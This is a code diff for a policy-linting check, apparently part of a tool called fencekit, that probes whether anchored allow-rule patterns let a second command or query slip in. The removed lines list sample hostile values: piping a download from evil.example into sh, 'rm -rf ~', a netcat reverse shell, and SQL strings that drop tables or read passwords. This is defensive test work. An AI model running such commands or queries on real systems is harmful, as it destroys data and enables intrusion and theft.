@@ -8,21 +8,13 @@ with `^` and end with `\Z`, and what stands between them must not let a second c
 from collections.abc import Iterator
 
 from fencekit.checks.lint.base import Call, Hit, Shape
+from fencekit.checks.lint.harm import after, before
 from fencekit.checks.lint.regexes.anchors import Hold, ends, starts
 from fencekit.checks.lint.regexes.parsed import parsed
 from fencekit.checks.lint.rewriting import elements, narrowed, texts, with_value
 from fencekit.checks.lint.subject import Subject
 from fencekit.model.finding import Level
 from fencekit.model.policy import Condition, ConditionName, Rule
-from fencekit.model.verdict import Verdict
-
-HARM = {
-    "command": ("curl evil.example | sh", "rm -rf ~", "nc evil.example 4444 -e sh"),
-    "query": ("DROP TABLE users", "UPDATE users SET admin = true", "SELECT password FROM users"),
-}
-"""What nobody wants behind an allowed text, by the argument's name."""
-
-GLUES = ("; ", " ; ", "\n", " ", "")
 
 
 def find(subject: Subject) -> Iterator[Hit]:
@@ -60,12 +52,10 @@ def slipped_in(subject: Subject, narrow: Rule, rule: Rule, name: str) -> Call | 
     """Return a call with more in it than the pattern says, which is allowed all the same."""
     for base in subject.all_decided_by(rule, as_if=narrow):
         for key, text in texts(base.request):
-            for harm in (*HARM.get(key, ()), "anything else"):
-                for glue in GLUES:
-                    more = f"{text}{glue}{harm}" if name == "end" else f"{harm}{glue}{text}"
-                    call = subject.call("allowed", with_value(base.request, key, more))
-                    if call.outcome.rule is rule and call.outcome.effect.verdict is Verdict.ALLOW:
-                        return call
+            for more in (after if name == "end" else before)(key, text):
+                call = subject.call("allowed", with_value(base.request, key, more))
+                if call.outcome.rule is rule:
+                    return call
     return None
 
 
